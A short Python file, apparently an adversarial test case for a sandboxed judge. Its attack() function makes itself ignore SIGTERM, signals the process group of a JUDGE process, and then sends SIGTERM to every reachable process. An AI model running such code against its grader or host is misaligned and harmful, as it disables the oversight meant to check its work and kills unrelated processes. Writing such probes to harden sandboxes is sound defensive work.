# what: send a signal to every process there is, and to every process group

import os
import signal


def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    others = {JUDGE, os.getpgid(JUDGE) if os.path.exists(f"/proc/{JUDGE}") else JUDGE} - {os.getpid(), os.getpgid(0)}
    for pid in others:
        try:
            os.killpg(pid, signal.SIGCONT)
            return True
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGTERM)
    except OSError:
        pass
    return False
